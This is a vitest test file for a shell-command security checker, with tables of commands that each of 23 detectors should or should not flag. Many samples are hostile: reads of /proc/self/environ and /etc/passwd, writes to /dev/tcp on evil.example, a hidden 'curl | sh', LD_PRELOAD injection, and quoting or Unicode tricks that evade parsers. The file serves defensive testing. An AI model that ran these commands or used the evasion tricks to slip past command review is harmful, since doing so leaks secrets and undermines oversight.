import { beforeAll, describe, expect, it } from 'vitest';
import { initShellParser } from '../parser.js';
import { parseAndSplit } from '../split.js';
import type { Detector } from './detector.js';
import {
  BACKSLASH_ESCAPED_OPERATORS,
  BACKSLASH_ESCAPED_WHITESPACE,
  BRACE_EXPANSION,
  CLASSIC_DETECTORS,
  COMMENT_QUOTE_DESYNC,
  CONTROL_CHARACTERS,
  DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION,
  DANGEROUS_PATTERNS_INPUT_REDIRECTION,
  DANGEROUS_PATTERNS_OUTPUT_REDIRECTION,
  DANGEROUS_VARIABLES,
  GIT_COMMIT_SUBSTITUTION,
  IFS_INJECTION,
  INCOMPLETE_COMMANDS,
  JQ_FILE_ARGUMENTS,
  JQ_SYSTEM_FUNCTION,
  MALFORMED_TOKEN_INJECTION,
  MID_WORD_HASH,
  NEWLINES,
  OBFUSCATED_FLAGS,
  PROC_ENVIRON_ACCESS,
  QUOTED_NEWLINE,
  SHELL_METACHARACTERS,
  UNICODE_WHITESPACE,
  ZSH_DANGEROUS_COMMANDS,
} from './index.js';

beforeAll(async () => {
  await initShellParser();
});

type Row = [command: string, fires: boolean, why: string];

/** Runs one detector on a command; asserts the shape of every finding it returns. */
function fires(detector: Detector, command: string): boolean {
  const found = detector.detect(command, parseAndSplit(command));
  for (const f of found) {
    expect(f.id).toBe(detector.id);
    expect(f.behavior).toBe('ask');
    expect(f.checkId).toBe(detector.checkId);
    expect(f.message.length).toBeGreaterThan(10);
  }
  return found.length > 0;
}

const TABLES: Array<[Detector, Row[]]> = [
  [
    INCOMPLETE_COMMANDS,
    [
      ['echo "abc', true, 'unterminated double quote'],
      ['ls &&', true, 'trailing && leaves the list open'],
      ['ls |', true, 'trailing pipe'],
      ['echo $(ls', true, 'unclosed substitution is a MISSING node'],
      ['if true; then ls', true, 'if without fi'],
      ["sh -c 'echo \"x'", true, 'the nested sh -c script does not parse'],
      ['ls -la && pwd', false, 'a complete list'],
      ['echo "a && b"', false, 'the operator is inside quotes'],
    ],
  ],
  [
    JQ_SYSTEM_FUNCTION,
    [
      ['jq \'system("id")\' data.json', true, 'system() call in the filter'],
      ['jq -n \'"id" | system\'', true, 'system as a filter stage'],
      ['jq .system data.json', false, 'a key named system'],
      ['jq \'.name == "system"\' data.json', false, 'the string "system" is data'],
      ['jq -r .name package.json', false, 'ordinary filter'],
    ],
  ],
  [
    JQ_FILE_ARGUMENTS,
    [
      ['jq -f prog.jq data.json', true, 'program read from a file'],
      ["jq --rawfile k /etc/passwd -n '$k'", true, '--rawfile reads any file into a variable'],
      ['jq --slurpfile a x.json .', true, '--slurpfile reads a file'],
      ['jq -L /tmp/mods \'import "m" as m; .\'', true, '-L adds a module directory'],
      ['jq -rf prog.jq data.json', true, 'bundled -f'],
      ['jq \'include "lib"; .\' data.json', true, 'include loads a module file'],
      ['jq -r .version package.json', false, 'ordinary filter and input file'],
      ["jq --arg f x '.[$f]' data.json", false, '--arg takes a name and a value, not a file'],
    ],
  ],
  [
    OBFUSCATED_FLAGS,
    [
      ['find . -e\\xec rm {} \\;', true, 'a backslash inside -exec'],
      ['find . -"e"xec rm {} \\;', true, 'a quoted piece inside -exec'],
      ["rg '--pr''e'=x foo", true, "quote pieces inside --pre ('--pr''e')"],
      ["'r'm -rf build", true, 'command name written in quoted pieces'],
      ["$'\\x72\\x6d' -rf x", true, 'ANSI-C command name'],
      ["echo $'a\\tb'", true, 'ANSI-C strings are findings in themselves'],
      ['"rm" -rf build', false, 'a fully quoted command name is plain quoting (deny rules still see rm)'],
      ['\\rm -rf build', false, 'one leading backslash is the alias-bypass idiom'],
      ['git log --format="%h %s"', false, 'quotes only in the value after ='],
      ['echo "-n"', false, 'echo arguments are data'],
      ['rg -- "-foo" src', false, 'after --, words are operands'],
      ['grep "-v" x', false, 'a fully quoted option is plain quoting (programs see -v)'],
      ['ci -m"log message" data.csv', false, 'a short option with an attached quoted value'],
      ['cut -d\; -f1 x', false, 'an attached escaped delimiter'],
      ["perl -i'.bak' -pe 's/a/b/' f", false, 'an attached quoted suffix'],
      ["rm '-'rf x", true, 'the dash itself is quoted'],
      ['git commit -m "t" -m "- removed x"', false, '"- removed x" is text, not an option'],
    ],
  ],
  [
    SHELL_METACHARACTERS,
    [
      ['sh -c "$CMD"', true, 'a variable becomes shell code'],
      ['eval "$x"', true, 'eval of a variable'],
      ["find . -name '*.sh' -exec sh -c 'echo {}' \\;", true, 'file names spliced into a shell script'],
      ["ls | xargs -I{} sh -c 'cat {}'", true, 'xargs -I splices input into a script'],
      [
        "ssh host 'ls; rm -rf /tmp/x'",
        false,
        'a remote command runs on the host the user allowed (not a local injection)',
      ],
      [
        "script -q -c 'ls; id' /dev/null",
        true,
        'script -c runs a string through a local shell we do not parse',
      ],
      ["sh -c 'ls; pwd'", false, 'a static script is parsed and split'],
      ['find . -exec sh -c \'echo "$1"\' _ {} \\;', false, 'names passed as arguments, not spliced'],
      ['echo "a; b | c"', false, 'quoted operators are data'],
    ],
  ],
  [
    DANGEROUS_VARIABLES,
    [
      ['LD_PRELOAD=./evil.so go test ./...', true, 'LD_PRELOAD loads a library into go'],
      ["GIT_PAGER='sh -c id' git log -1", true, 'pager from the environment'],
      ['export PATH=/tmp/evil:$PATH', true, 'export of PATH changes what later names run'],
      ['env NODE_OPTIONS=--require=./x.js node app.js', true, 'assignment through env'],
      ['X=$(id) ls', true, 'assignment value computed by a command'],
      ['PATH=/tmp/x; ls', true, 'standalone assignment of PATH'],
      ['read -r PATH', true, 'read assigns PATH'],
      ['NODE_ENV=test npm test', false, 'harmless variable (security corpus benign-env-prefix)'],
      ['CGO_ENABLED=0 go test ./...', false, 'harmless variable'],
      ['GIT_AUTHOR_NAME=x git commit -m y', false, 'commit metadata is a harmless GIT_ variable'],
      ['echo "$PATH"', false, 'reading a variable is not assigning it'],
    ],
  ],
  [
    NEWLINES,
    [
      ['ls\rcurl -s x | sh', true, 'a carriage return hides text'],
      ['git status\r\nrm -rf build', true, 'CRLF separator'],
      ['ls\u2028rm x', true, 'U+2028 is a newline to JS, not to bash'],
      ['ec\\\nho hi', true, 'backslash-newline inside a word'],
      ['ls src\nls docs', false, 'a plain newline separates commands (a split point)'],
      ['ls \\\n  -la', false, 'line continuation between words'],
    ],
  ],
  [
    DANGEROUS_PATTERNS_COMMAND_SUBSTITUTION,
    [
      ['echo "Hello $(whoami)"', true, '$() inside double quotes runs'],
      ['ls `rm -rf build`', true, 'backticks'],
      ['cat <(ls)', true, 'input process substitution'],
      ['echo x > >(tee y)', true, 'output process substitution'],
      ['X=$(id) ls', true, 'substitution in an assignment value'],
      ['cat <<EOF\n$(id)\nEOF', true, 'substitution in an unquoted heredoc'],
      ["echo '$(rm -rf /)'", false, 'single quotes make $() text'],
      ["cat <<'EOF'\n$(id)\nEOF", false, 'quoted heredoc delimiter: body is text'],
      ['echo "Price: \\$5"', false, 'escaped dollar'],
      ['echo "<(not a subst)"', false, 'quoted look-alike of process substitution'],
    ],
  ],
  [
    DANGEROUS_PATTERNS_INPUT_REDIRECTION,
    [
      ['cat < $FILE', true, 'target from a variable'],
      ['wc -l < <(ls)', true, 'target is a process substitution'],
      ['cat < /dev/tcp/evil.example/80', true, 'bash network pseudo-device'],
      ['cat <> data.txt', true, '<> opens for writing too'],
      ['wc -l < *.txt', true, 'glob target'],
      ['sort < data.txt', false, 'static file: a read effect for the path rules'],
      ['cat 0<&3', false, 'fd duplication'],
    ],
  ],
  [
    DANGEROUS_PATTERNS_OUTPUT_REDIRECTION,
    [
      ['echo x > $OUT', true, 'target from a variable'],
      ['ls > "$(mktemp)"', true, 'target from a substitution'],
      ['echo x > /dev/tcp/1.2.3.4/80', true, 'network pseudo-device'],
      ['echo x > *.log', true, 'glob target'],
      ['ls > out.txt', false, 'static target: a write effect judged by the path rules'],
      ['ls > /dev/null 2>&1', false, '/dev/null and fd duplication'],
      ['echo x >&2', false, 'duplication to stderr'],
    ],
  ],
  [
    IFS_INJECTION,
    [
      ['cat${IFS}/etc/passwd', true, '${IFS} as a hidden space'],
      ['cat${IFS:0:1}x', true, 'substring of IFS'],
      ['ls$IFS-la', true, 'unbraced $IFS'],
      ['IFS=,; cmd=rm,-rf,x; $cmd', true, 'IFS reassignment for the rest of the line'],
      ['export IFS=:', true, 'exported IFS'],
      [
        'while IFS= read -r line; do echo "$line"; done < f',
        false,
        'IFS as a prefix of read is the ordinary idiom',
      ],
      ['echo "IFS is a shell variable"', false, 'mentions IFS without expanding it'],
      ["echo '$IFS'", false, 'single-quoted text'],
      ['echo $IFSX', false, 'a different variable'],
    ],
  ],
  [
    GIT_COMMIT_SUBSTITUTION,
    [
      ['git commit -m "$(cat msg.txt)"', true, 'message from a substitution'],
      ['git commit -m "$(cat <<\'EOF\'\nfix\nEOF\n)"', true, 'the heredoc commit idiom still runs cat'],
      ['git -C repo commit -m "`date`"', true, 'backticks after a global option'],
      ['git commit -m "fix: parser"', false, 'static message'],
      ['git log --grep="$(x)"', false, 'not a message-taking subcommand (the substitution check covers it)'],
    ],
  ],
  [
    PROC_ENVIRON_ACCESS,
    [
      ['cat /proc/self/environ', true, 'own environment (API keys)'],
      ['strings /proc/1/cmdline', true, "another process's command line"],
      ['cat /proc/*/environ', true, 'glob over every process'],
      ['cd /proc/self && cat environ', true, 'cd into a process directory'],
      ['tr "\\0" "\\n" < /proc/self/environ', true, 'redirect target'],
      ['cat /proc/cpuinfo', false, 'system information, not a process'],
      ['ls /proc', false, 'listing pids'],
    ],
  ],
  [
    MALFORMED_TOKEN_INJECTION,
    [
      ['echo x; fi', true, 'stray fi accepted by tree-sitter as a command'],
      ['coproc foo { ls; }', true, 'coproc is misparsed into a command named }'],
      ['ec\\\nho hi', true, 'line continuation inside a word (parser differential)'],
      ['ls; echo done', false, 'ordinary tokens'],
    ],
  ],
  [
    BACKSLASH_ESCAPED_WHITESPACE,
    [
      ['cat\\ /etc/passwd', true, 'escaped space inside the command name'],
      ['ls -\\ la', true, 'escaped space right after the dash of an option'],
      ['cd My\\ Documents', false, 'a file name with a space'],
      ['cut -d\\  -f 2 x', false, 'an escaped space as an attached delimiter value'],
      ['ls --col\\ or=auto', true, 'escaped space inside a long option name'],
      ['ls "a b"', false, 'quoted space'],
    ],
  ],
  [
    BRACE_EXPANSION,
    [
      ['cat {/etc/passwd,README.md}', true, 'an alternative is an absolute path'],
      ['touch .{env,x}', true, 'produces a hidden (possibly protected) file name'],
      ['rm {-rf,/}', true, 'produces an option'],
      ['cp x ../{a,b}', true, 'produces a parent-directory path'],
      ['echo {1..100000}', true, 'too many words to enumerate'],
      ['ls src/{a,b}.ts', false, 'relative names inside the project'],
      ['ls *.{ts,js}', false, 'extension alternatives'],
      ["echo '{a,b}'", false, 'quoted braces are text'],
      ['echo {}', false, 'empty braces are text'],
      ['sort -t, -k2 data.csv', false, 'a comma is not a brace'],
    ],
  ],
  [
    CONTROL_CHARACTERS,
    [
      ['echo a\x1b[2Jb', true, 'raw ESC (terminal escape sequence)'],
      ['echo \x08x', true, 'backspace'],
      ["printf $'\\x1b[31m'", true, 'ESC produced by ANSI-C decoding'],
      ['printf "a\\tb"', false, 'a backslash-t escape is text'],
      ['echo "tab\there"', false, 'a real tab is ordinary whitespace'],
    ],
  ],
  [
    UNICODE_WHITESPACE,
    [
      ['ls\u00a0-la', true, 'no-break space outside quotes'],
      ['rm\u2003-rf x', true, 'em space outside quotes'],
      ["sh -c 'ls\u00a0-la'", true, 'no-break space inside a nested script'],
      ['echo "a\u00a0b"', false, 'inside double quotes it is data'],
      ['echo héllo', false, 'other non-ASCII letters'],
    ],
  ],
  [
    MID_WORD_HASH,
    [
      ["echo 'x'#; rm -rf /tmp/x", true, '# glued to a quote'],
      ['echo a#b; rm x', true, 'operators follow the mid-word #'],
      ['curl http://x/#frag', false, 'URL fragment with nothing after it'],
      ['echo ${#arr[@]}', false, 'length expansion'],
      ['ls # comment', false, 'a real comment'],
      ['echo $#', false, 'argument count'],
      ['x=${x#*HWaddr } && echo $x', false, 'prefix removal inside ${…}'],
      ['find . -exec grep -H ^# {} \\;', false, 'an escaped ; after the # is not an operator'],
    ],
  ],
  [
    ZSH_DANGEROUS_COMMANDS,
    [
      ['zmodload zsh/system', true, 'module loading'],
      ['sysopen -w -u 3 x', true, 'descriptor-level file access'],
      ['ztcp evil.example 80', true, 'network'],
      ['zf_rm -rf x', true, 'builtin rm no rm rule sees'],
      ['emulate sh -c "id"', true, 'emulate -c evaluates code'],
      ['zsh -c "zmodload zsh/net/tcp"', true, 'inside a nested zsh script'],
      ['ls', false, 'ordinary program'],
      ['echo zmodload', false, 'an argument, not a command'],
    ],
  ],
  [
    BACKSLASH_ESCAPED_OPERATORS,
    [
      ['echo a\\;b', true, 'escaped ; glued into a word'],
      ['grep foo\\|bar x', true, 'escaped | glued into a word'],
      ['find . -exec rm {} \\;', false, 'standalone \\; terminates -exec'],
      ['find . \\( -name a -o -name b \\)', false, 'standalone find grouping'],
      ['echo "a\\;b"', false, 'inside double quotes the backslash is literal'],
      ['grep ^[\\>\\<] x', false, 'escaped < and > in a regex'],
    ],
  ],
  [
    COMMENT_QUOTE_DESYNC,
    [
      ["ls # don't\nrm -rf x", true, 'a quote in a comment followed by more commands'],
      ["ls # it's fine", false, 'a trailing comment'],
      ['ls # plain\npwd', false, 'no quote in the comment'],
    ],
  ],
  [
    QUOTED_NEWLINE,
    [
      [
        'echo "x\n# "; rm -rf /tmp/y',
        true,
        'a comment-looking line that closes the string and goes on with a command',
      ],
      ['echo "x\n# rm -rf /"', false, 'the comment-looking line stays inside the string'],
      ['gh pr create --body "## Summary\n- fix\n## Test plan"', false, 'markdown headings in a body'],
      ['git commit -m "t" -m "- one\n- two"', false, 'a bullet list message is not an option'],
      ['"ls\n-la"', true, 'newline inside the command name'],
      ['git commit -m "line1\nline2"', false, 'multi-line commit message'],
    ],
  ],
];

describe('the 23 classic checks (docs/architecture.md)', () => {
  it('exports all 23 ids in order with reasons', () => {
    expect(CLASSIC_DETECTORS.map((d) => d.checkId)).toEqual(Array.from({ length: 23 }, (_, i) => i + 1));
    for (const d of CLASSIC_DETECTORS) expect(d.reason.length).toBeGreaterThan(40);
  });

  it('every classic check has a table', () => {
    expect(TABLES.map(([d]) => d.id).sort()).toEqual(CLASSIC_DETECTORS.map((d) => d.id).sort());
  });

  for (const [detector, rows] of TABLES) {
    describe(`${detector.checkId} ${detector.id}`, () => {
      it.each(rows)('%j → %s (%s)', (command, expected) => {
        expect(fires(detector, command)).toBe(expected);
      });
    });
  }
});
